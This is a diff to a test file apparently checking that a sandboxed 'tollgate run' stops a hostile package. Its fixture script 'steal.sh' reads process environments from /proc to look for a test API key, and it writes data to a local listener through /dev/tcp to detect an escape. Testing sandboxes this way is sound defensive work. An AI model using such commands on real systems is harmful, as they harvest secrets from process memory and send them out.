@@ -56,6 +56,7 @@ describe('tollgate run, sandboxed', () => {
       'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'bash steal.sh' } }),
       'steal.sh': [
         '#!/bin/bash',
+        'cat /proc/$(cat tollgate.pid)/environ > /dev/null',
         'echo "tollgate environ: $(cat /proc/$(cat tollgate.pid)/environ 2>&1 | tr "\\0" "\\n" | grep -c sk-test-cli-sbx) key lines"',
         'echo "any environ: $(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c sk-test-cli-sbx) key lines"',
         `(echo leak > /dev/tcp/127.0.0.1/${listener.port}) 2>/dev/null && echo ESCAPE dev-tcp`,
